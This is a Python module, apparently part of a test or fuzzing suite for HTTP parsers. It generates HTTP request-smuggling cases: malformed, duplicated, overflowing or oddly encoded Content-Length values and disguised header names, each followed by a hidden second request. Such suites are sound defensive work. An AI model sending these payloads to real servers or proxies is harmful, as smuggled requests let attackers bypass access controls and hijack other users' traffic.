"""Content-Length in every disguise: twice, in disagreement, with signs, in other bases and alphabets, too large to hold."""

from __future__ import annotations

from collections.abc import Iterator

from smuggling_payload import HIDDEN, Named, head, shown, table

_NAME = b"Content-Length"
VALUES = [
    *table(
        r"+5|-5| 5|5 |\t5|5\t|05|005|0x5|0X5|0b101|0o5|5_0|5,5|5, 5|5,6|5;|5.0|5e0|1e1|5 5|5 6|five|\x225\x22|'5'|(5)|",
        r"-0|+0|00|-1|5-|5+|#5|5h|\xd9\xa5|\xef\xbc\x95|\xb2|\xc2\xb2|5\xa0|\xa05|5\x00|\x005|5\x0b|\x0b5|5\x0c|5\x85",
        r"5\r|\r5|5\n|\n5|5\r\n 6|\r\n 5|5\r\n\t|5\r\n ,6|5\x7f|5%00|%35|0,5|5,0|,5|5,|18446744073709551621",
        r"18446744073709551616|9223372036854775808|9223372036854775812|4294967301|4294967296|65541|2147483653",
        r"-9223372036854775803",
    ),
    b"9" * 19,
    b"9" * 30,
    b"9" * 4301,
    b"0" * 4000 + b"5",
    b"1" + b"0" * 18,
]
NAMES = [
    *table(
        r"Content_Length|Content Length|ContentLength|Content-Length |Content-Length\t| Content-Length",
        r"\tContent-Length|Content-Length\x00|\x00Content-Length|Content-Length\x0b|Content-Length\xa0",
        r"Content\r\n -Length|X: y\nContent-Length|X: y\rContent-Length|X: y\r\n Content-Length|Content-Length\r",
        r"Content-Length:|X-Content-Length|Content-Lengt\xc2\xbd|Content\xe2\x80\x90Length|Content-Lengt%68",
        r"\x22Content-Length\x22|Content-\x00Length|Content-\x0cLength|Content-Length\x7f|Content-Length;",
        r"Content-Length,|Content-Length/",
    ),
    _NAME.lower(),
    _NAME.upper(),
]


def lengths() -> Iterator[Named]:
    """Each value alone, before and after an honest one that covers nothing or everything; each name with a value that hides."""
    everything = b"%d" % len(HIDDEN)
    for value in VALUES:
        line, name = _NAME + b": " + value, shown(value)
        yield f"length {name}", head(line) + b"abcde" + HIDDEN
        yield f"length {name} with GET", head(line, line=b"GET /open-q_____z HTTP/1.1") + b"abcde" + HIDDEN
        yield f"length {name}, then all", head(line, _NAME + b": " + everything) + HIDDEN
        yield f"length 0, then {name}", head(_NAME + b": 0", line) + HIDDEN
        yield f"length 5, then {name}", head(_NAME + b": 5", line) + b"abcde" + HIDDEN
        yield f"length {name} in HTTP/1.0", head(line, line=b"POST /open-q_____z HTTP/1.0") + b"abcde" + HIDDEN
    for given in NAMES:
        name = shown(given)
        yield f"length named {name}", head(given + b": " + everything) + HIDDEN
        yield f"length named {name} beside 0", head(_NAME + b": 0", given + b": " + everything) + HIDDEN
        yield f"length named {name} before 0", head(given + b": " + everything, _NAME + b": 0") + HIDDEN
        yield f"length named {name}, all honest", head(_NAME + b": " + everything, given + b": 0") + HIDDEN
